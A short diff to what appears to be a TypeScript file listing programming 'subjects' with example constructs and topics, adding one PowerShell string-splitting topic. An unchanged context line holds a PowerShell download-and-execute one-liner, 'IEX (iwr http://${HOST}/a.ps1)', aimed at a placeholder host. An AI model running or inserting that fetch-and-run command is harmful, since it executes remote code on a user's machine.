@@ -64,6 +64,7 @@ const subjects: readonly Subject[] = [
   subject('PowerShell', powershellConstructs, [`IEX (iwr http://${HOST}/a.ps1)`, 'Get-Date'], (u) => `IEX ${u}`, [
     '-join, -split and -replace',
     '-replace with groups',
+    '-split by an escaped text',
     'characters of text',
     '[Convert] and bases',
     'Base64 and encodings',
